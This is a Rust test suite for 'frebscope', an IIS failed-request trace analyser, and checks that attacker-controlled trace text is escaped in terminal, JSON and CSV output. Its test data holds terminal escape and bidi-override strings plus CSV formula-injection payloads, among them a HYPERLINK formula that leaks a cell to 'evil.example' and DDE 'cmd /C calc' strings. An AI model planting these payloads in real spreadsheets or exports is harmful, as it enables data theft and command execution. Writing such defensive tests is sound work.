//! Text from a trace is attacker-controlled: escape sequences, carriage returns and bidi
//! overrides reach the terminal escaped, never raw; formulas reach a CSV as text; JSON escapes.

mod common;

use std::fs;
use std::path::Path;
use std::process::Output;

use assert_cmd::cargo::cargo_bin_cmd;
use common::{Root, trace_with, write};
use tempfile::TempDir;

/// In the file as XML: raw ESC and U+202E, and a carriage return as a character reference
/// (a raw one in an attribute is normalized to a space by any XML reader).
const URL_XML: &str = "http://localhost/\u{1b}[31mred&#13;&#x1b;[2J\u{202e}gpj.exe";
/// What the trace says, once read.
const URL: &str = "http://localhost/\u{1b}[31mred\r\u{1b}[2J\u{202e}gpj.exe";
const POOL_XML: &str = "Pool\u{1b}]0;owned\u{7}&#13;\u{202e}X";
const POOL: &str = "Pool\u{1b}]0;owned\u{7}\r\u{202e}X";
/// In element text, a raw CR survives.
const COMPUTER: &str = "WEB\u{1b}[31m\r\u{202e}01";
/// A file name with the same, as far as the file system allows, and how stderr shows it.
#[cfg(unix)]
const NAME: (&str, &str) = ("fr\u{1b}[31m\r\u{202e}.xml", "fr\\x1b[31m\\r\\u{202e}.xml");
#[cfg(not(unix))]
const NAME: (&str, &str) = ("fr\u{202e}lmx.xml", "fr\\u{202e}lmx.xml");

fn hostile_dir() -> TempDir {
    let tmp = tempfile::tempdir().unwrap();
    let root = Root {
        url: URL_XML,
        app_pool: POOL_XML,
        computer: COMPUTER,
        status: "502.3",
    };
    write(&tmp.path().join("fr000001.xml"), trace_with(&root));
    // Skipped files whose name and detail carry the same.
    write(&tmp.path().join(NAME.0), "");
    write(
        &tmp.path().join("fr000002.xml"),
        "<failedRequest\u{1b}[31m\u{202e} url=\"x\"/>",
    );
    tmp
}

/// No byte of a terminal control sequence or bidi override is left raw.
fn assert_clean(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    for (i, ch) in text.char_indices() {
        let bad = (ch.is_control() && ch != '\n')
            || matches!(ch, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        assert!(
            !bad,
            "{what}: raw {ch:?} at byte {i}: ...{}...",
            &text[i.saturating_sub(60)..(i + 20).min(text.len())]
        );
    }
}

fn run(args: &[&str], dir: &Path) -> Output {
    cargo_bin_cmd!("frebscope")
        .args(args)
        .arg(dir)
        .arg("--no-progress")
        .env_remove("NO_COLOR")
        .output()
        .unwrap()
}

#[test]
fn scan_tables_show_trace_text_escaped() {
    let tmp = hostile_dir();
    for by in ["error", "server", "app-pool", "url"] {
        let output = run(&["scan", "--by", by], tmp.path());
        assert_eq!(output.status.code(), Some(2), "{output:?}");
        assert_clean(&format!("scan --by {by} stdout"), &output.stdout);
        assert_clean(&format!("scan --by {by} stderr"), &output.stderr);
        let stdout = String::from_utf8_lossy(&output.stdout);
        assert!(
            stdout.contains("3 files found · 1 read · 2 skipped (empty 1, not-freb 1)"),
            "{stdout}"
        );
        // Shown, escaped: the reader can still see what the trace said.
        assert!(stdout.contains("\\x1b[31m"), "--by {by}: {stdout}");
        if by != "error" {
            assert!(stdout.contains("\\u{202e}"), "--by {by}: {stdout}");
        }
    }
}

#[test]
fn requests_table_shows_trace_text_escaped() {
    let tmp = hostile_dir();
    let output = run(&["requests"], tmp.path());
    assert_eq!(output.status.code(), Some(2));
    assert_clean("requests stdout", &output.stdout);
    assert_clean("requests stderr", &output.stderr);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("\\x1b[31m"), "{stdout}");
    assert!(stdout.contains("\\r"), "{stdout}");
}

#[test]
fn skipped_list_on_stderr_shows_names_and_details_escaped() {
    let tmp = hostile_dir();
    let output = run(&["requests", "--json"], tmp.path());
    assert_eq!(output.status.code(), Some(2));
    assert_clean("stderr", &output.stderr);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains(&format!("{}: empty", NAME.1)), "{stderr}");
    assert!(stderr.contains("fr000002.xml: not-freb"), "{stderr}");
    assert!(stderr.contains("\\x1b[31m\\u{202e}"), "{stderr}");
}

#[test]
fn json_escapes_and_keeps_the_text_intact() {
    let tmp = hostile_dir();
    let output = run(&["requests", "--json", "--totals"], tmp.path());
    assert!(!output.stdout.contains(&0x1b), "raw ESC in JSON");
    assert!(!output.stdout.contains(&b'\r'), "raw CR in JSON");
    let out = common::parse_outcome(&output);
    out.assert_accounted();
    let row = out.row("fr000001.xml");
    assert_eq!(row["url"], URL);
    assert_eq!(row["app_pool"], POOL);
    assert_eq!(row["server"], COMPUTER);
    let output = run(&["scan", "--json", "--by", "url"], tmp.path());
    assert!(!output.stdout.contains(&0x1b), "raw ESC in JSON");
    let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert!(json.to_string().contains("\\u001b[31m"), "{json}");
}

const FORMULAS: [&str; 6] = [
    "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;open&quot;)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "&#9;=1+1",
    "&#13;=1+1",
];

fn formula_dir() -> TempDir {
    let tmp = tempfile::tempdir().unwrap();
    for (i, formula) in FORMULAS.iter().enumerate() {
        let computer = formula.replace("&#9;", "\t").replace("&#13;", "\r");
        let root = Root {
            url: formula,
            app_pool: formula,
            computer: &computer,
            status: "502.3",
        };
        write(&tmp.path().join(format!("fr{i:06}.xml")), trace_with(&root));
    }
    tmp
}

/// Every cell that starts like a formula was neutralised; returns the cells read.
fn assert_no_formula(what: &str, csv_text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv_text.as_bytes());
    let mut cells = Vec::new();
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            let first = cell.chars().next();
            assert!(
                !matches!(first, Some('=' | '+' | '@' | '\t' | '\r')),
                "{what}: formula cell {cell:?}"
            );
            assert!(
                first != Some('-') || cell == "-",
                "{what}: formula cell {cell:?}"
            );
            cells.push(cell.to_owned());
        }
    }
    cells
}

#[test]
fn csv_cells_that_start_like_formulas_are_neutralised() {
    let tmp = formula_dir();
    let output = run(&["requests", "--csv", "-"], tmp.path());
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let cells = assert_no_formula("requests", &String::from_utf8_lossy(&output.stdout));
    // The formula is there, as text.
    assert!(
        cells
            .iter()
            .any(|c| c == "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")"),
        "{cells:?}"
    );
    assert!(cells.iter().any(|c| c == "'\t=1+1"), "{cells:?}");
    assert!(cells.iter().any(|c| c == "'\r=1+1"), "{cells:?}");
    assert!(cells.iter().any(|c| c == "'-2+3"), "{cells:?}");
    for by in ["error", "server", "app-pool", "url"] {
        let file = tmp.path().join(format!("scan-{by}.csv"));
        let output = cargo_bin_cmd!("frebscope")
            .args(["scan", "--no-progress", "--by", by, "--csv"])
            .arg(&file)
            .arg(tmp.path())
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(0), "{output:?}");
        let text = fs::read_to_string(&file).unwrap();
        let cells = assert_no_formula(&format!("scan --by {by}"), &text);
        assert!(
            cells.iter().any(|c| c.contains("=HYPERLINK(")),
            "{by}: {text}"
        );
        // The table printed alongside is clean too.
        assert_clean(&format!("scan --by {by} table"), &output.stdout);
    }
}

#[test]
fn skipped_csv_neutralises_formulas_in_paths() {
    let tmp = tempfile::tempdir().unwrap();
    let evil = tmp.path().join("=HYPERLINK(1)");
    fs::create_dir(&evil).unwrap();
    write(&evil.join("fr000001.xml"), "");
    let output = cargo_bin_cmd!("frebscope")
        .args(["scan", "--no-progress", "--skipped-csv", "skipped.csv"])
        .arg("=HYPERLINK(1)")
        .current_dir(tmp.path())
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2), "{output:?}");
    let text = fs::read_to_string(tmp.path().join("skipped.csv")).unwrap();
    let cells = assert_no_formula("skipped csv", &text);
    assert!(
        cells
            .iter()
            .any(|c| c.starts_with("'=HYPERLINK(1)") && c.ends_with("fr000001.xml")),
        "{cells:?}"
    );
}

/// The escapes an attacker would use, as raw characters and as XML character references.
const EVIL_RAW: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{61c}\u{202e}";
const EVIL_REF: &str = "&#x1b;]0;owned&#x7;&#x1b;[2J&#x61c;&#13;";

/// One event whose every part (name, provider, computer, data names and values, description)
/// carries the escapes.
fn evil_event(name: &str, data: &str) -> String {
    format!(
        "<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\">\r\n\
<System><Provider Name=\"WWW {EVIL_RAW}\"/><EventID>0</EventID><Version>1</Version>\
<Level>2</Level><Opcode>1</Opcode><Keywords>0x100</Keywords>\
<TimeCreated SystemTime=\"2026-06-08T19:54:52.000Z\"/>\
<Correlation ActivityID=\"{{40000005-0001-FB00-B63F-84710C7967BB}}\"/>\
<Execution ProcessID=\"7120\" ThreadID=\"2060\"/><Computer>WEB{EVIL_RAW}</Computer></System>\r\n\
<EventData>{data}</EventData>\r\n<RenderingInfo Culture=\"en-US\"><Opcode>{name}</Opcode>\
<freb:Description Data=\"Notification\">N{EVIL_RAW}{EVIL_REF}</freb:Description></RenderingInfo></Event>\r\n"
    )
}

/// A trace with the escapes in every root attribute, event name, data item and header.
fn evil_trace() -> String {
    let root = Root {
        url: &format!("http://x/{EVIL_RAW}{EVIL_REF}"),
        app_pool: &format!("P{EVIL_RAW}{EVIL_REF}"),
        computer: &format!("WEB{EVIL_RAW}"),
        status: "502.3",
    };
    let mut text = common::head(&root).replace(
        "verb=\"GET\"",
        &format!(
            "verb=\"G{EVIL_RAW}\" remoteUserName=\"u{EVIL_REF}\" authenticationType=\"a{EVIL_RAW}\""
        ),
    );
    let data = |name: &str, value: &str| format!("<Data Name=\"{name}\">{value}</Data>");
    text.push_str(&evil_event(
        "GENERAL_REQUEST_HEADERS",
        &data(
            "Headers",
            &format!("Host: h{EVIL_RAW}\r\nUser-Agent: ua{EVIL_REF}\r\n"),
        ),
    ));
    text.push_str(&evil_event(
        &format!("EVIL{EVIL_RAW}_START"),
        &format!(
            "{}{}",
            data(&format!("N{EVIL_RAW}"), &format!("v{EVIL_RAW}{EVIL_REF}")),
            data("ModuleName", &format!("M{EVIL_RAW}"))
        ),
    ));
    text.push_str(&evil_event(
        "MODULE_SET_RESPONSE_ERROR_STATUS",
        &format!(
            "{}{}{}{}{}",
            data("ModuleName", &format!("Mod{EVIL_RAW}")),
            data("Notification", "128"),
            data("HttpStatus", "502"),
            data("HttpSubStatus", "3"),
            data("ErrorCode", &format!("2147954402{EVIL_RAW}")),
        ),
    ));
    text.push_str(&evil_event(
        "MODULE_WARNING",
        &format!(
            "{}{}",
            data("Data1", &format!("d1{EVIL_RAW}")),
            data("Data2", &format!("d2{EVIL_REF}"))
        ),
    ));
    text.push_str(&evil_event(
        "SET_RESPONSE_ERROR_DESCRIPTION",
        &data("ErrorDescription", &format!("desc{EVIL_RAW}")),
    ));
    text.push_str(&evil_event(&format!("EVIL{EVIL_RAW}_END"), ""));
    text.push_str("</failedRequest>");
    text
}

/// Every field of a hostile trace reaches `show` escaped, with and without `--all`, and the
/// same for the tables of `scan` and `requests`.
#[test]
fn show_prints_every_field_escaped() {
    let tmp = tempfile::tempdir().unwrap();
    // No `[` in the name: a path that holds one is read as a pattern.
    let name = if cfg!(unix) {
        "fr\u{1b}]0;t\u{7}\u{61c}\u{202e}.xml"
    } else {
        "fr\u{61c}\u{202e}.xml"
    };
    let file = tmp.path().join(name);
    write(&file, evil_trace());
    for extra in [&[][..], &["--all"][..]] {
        let output = cargo_bin_cmd!("frebscope")
            .arg("show")
            .args(extra)
            .arg(&file)
            .env_remove("NO_COLOR")
            .output()
            .unwrap();
        assert_clean(&format!("show {extra:?} stdout"), &output.stdout);
        assert_clean(&format!("show {extra:?} stderr"), &output.stderr);
        let text = String::from_utf8_lossy(&output.stdout);
        assert!(
            text.contains("\\x1b]0;owned\\x07"),
            "{text}{}",
            String::from_utf8_lossy(&output.stderr)
        );
    }
    for args in [
        &["scan"][..],
        &["scan", "--by", "server"][..],
        &["scan", "--by", "app-pool"][..],
        &["scan", "--by", "url"][..],
        &["requests"][..],
        &["requests", "--verbose"][..],
    ] {
        let output = run(args, tmp.path());
        assert_clean(&format!("{args:?} stdout"), &output.stdout);
        assert_clean(&format!("{args:?} stderr"), &output.stderr);
    }
}

/// The "cannot read ROOT" message and the names of files that cannot be created are escaped.
#[test]
fn messages_that_name_paths_are_escaped() {
    let tmp = tempfile::tempdir().unwrap();
    // No `[`: a path that holds one is read as a pattern.
    let missing = tmp.path().join("logs\u{1b}]0;owned\u{7}\u{61c}\u{202e}");
    let output = cargo_bin_cmd!("frebscope")
        .arg("scan")
        .arg(&missing)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1));
    assert_clean("cannot read ROOT", &output.stderr);
    assert!(String::from_utf8_lossy(&output.stderr).contains("cannot read"));
    let output = cargo_bin_cmd!("frebscope")
        .args(["scan", "--no-progress", "--csv"])
        .arg(missing.join("out.csv"))
        .arg(env!("CARGO_MANIFEST_DIR").to_owned() + "/samples")
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1));
    assert_clean("could not create", &output.stderr);
    let output = cargo_bin_cmd!("frebscope")
        .arg("show")
        .arg(&missing)
        .output()
        .unwrap();
    assert_ne!(output.status.code(), Some(0));
    assert_clean("show of a missing file", &output.stderr);
}

/// CSV on standard output is data for programs when it goes to a pipe, and text for a person
/// when it goes to a terminal: there it is escaped like everything else. `script` (util-linux,
/// in every Debian) gives the run a terminal.
#[cfg(unix)]
#[test]
fn csv_on_a_terminal_is_escaped() {
    let have_script = std::process::Command::new("script")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if !have_script {
        assert!(
            std::env::var_os("CI").is_none(),
            "script (util-linux) is needed to give frebscope a terminal"
        );
        eprintln!("skipped: no script command to run frebscope on a terminal");
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    write(&tmp.path().join("fr000001.xml"), evil_trace());
    let bin = assert_cmd::cargo::cargo_bin!("frebscope");
    for args in ["requests --csv -", "scan --by url --csv -"] {
        let command = format!(
            "'{}' {args} --no-progress '{}'",
            bin.display(),
            tmp.path().display()
        );
        let output = std::process::Command::new("script")
            .args(["-qec", &command, "/dev/null"])
            .output()
            .unwrap();
        // The terminal turns line feeds into CR LF; only those CRs are the terminal's own.
        let text = String::from_utf8_lossy(&output.stdout).replace("\r\n", "\n");
        assert!(text.contains("\\x1b]0;owned"), "{args}: {text}");
        assert_clean(&format!("{args} on a terminal"), text.as_bytes());
    }
}

/// The renderers escape at the source too: `show` rendered into memory, without the guard
/// the binary adds, holds no raw control character either.
#[test]
fn show_renderer_escapes_without_the_guard() {
    use frebscope::model::Diagnosis;
    use frebscope::parse::full::read_document;
    use frebscope::show::{ShowOptions, render};
    let document = read_document(evil_trace().as_bytes()).expect("the hostile trace reads");
    for all in [false, true] {
        let mut out = Vec::new();
        let options = ShowOptions { all, color: false };
        render(
            Path::new("fr000001.xml"),
            &document,
            &Diagnosis::not_applicable(),
            &options,
            &mut out,
        )
        .unwrap();
        assert_clean(&format!("render all={all}"), &out);
    }
}

/// The same for `scan`, `requests` and `show` run in the library, whose streams the binary
/// guards: the tables, hints, messages and the suggested line escape at the source.
#[test]
fn reports_escape_without_the_guard() {
    use frebscope::aggregate::GroupBy;
    use frebscope::config::{Config, Input, Requests, Scan, Show};
    use frebscope::discover::Root as Location;
    use frebscope::report::Format;
    use frebscope::run::{Streams, run};
    use frebscope::show::ShowOptions;
    let tmp = tempfile::tempdir().unwrap();
    let name = if cfg!(unix) {
        "fr\u{1b}]0;t\u{7}\u{61c}.xml"
    } else {
        "fr\u{61c}.xml"
    };
    write(&tmp.path().join(name), evil_trace());
    write(&tmp.path().join("fr000009.xml"), "");
    let input = Input {
        roots: vec![Location::Dir(tmp.path().to_path_buf())],
        filters: Default::default(),
        threads: 2,
        verbose: true,
        progress: false,
        stats: true,
        skipped_csv: None,
        follow: false,
        iis_config: Vec::new(),
        events: Default::default(),
        cache: None,
    };
    let scan = |by| {
        Config::Scan(Scan {
            input: input.clone(),
            diagnosis: Default::default(),
            by,
            format: Format::Table,
            color: false,
            table: Default::default(),
            data: Default::default(),
            html: None,
        })
    };
    let configs = [
        scan(GroupBy::Error),
        scan(GroupBy::Server),
        scan(GroupBy::AppPool),
        scan(GroupBy::Url),
        scan(GroupBy::Hour),
        Config::Requests(Requests {
            input: input.clone(),
            diagnosis: Default::default(),
            format: Format::Table,
            color: false,
            table: Default::default(),
            data: Default::default(),
            rows: Default::default(),
        }),
        Config::Show(Show {
            files: input.roots.clone(),
            context: Vec::new(),
            diagnosis: Default::default(),
            view: ShowOptions {
                all: true,
                color: false,
            },
            html: None,
            json: false,
            local: false,
            iis_config: Vec::new(),
            events: Default::default(),
        }),
    ];
    for config in configs {
        let (mut out, mut err) = (Vec::new(), Vec::new());
        let mut streams = Streams {
            out: &mut out,
            err: &mut err,
            width: Some(160),
        };
        run(&config, &mut streams).unwrap();
        assert_clean(&format!("{config:?} stdout"), &out);
        assert_clean(&format!("{config:?} stderr"), &err);
    }
}
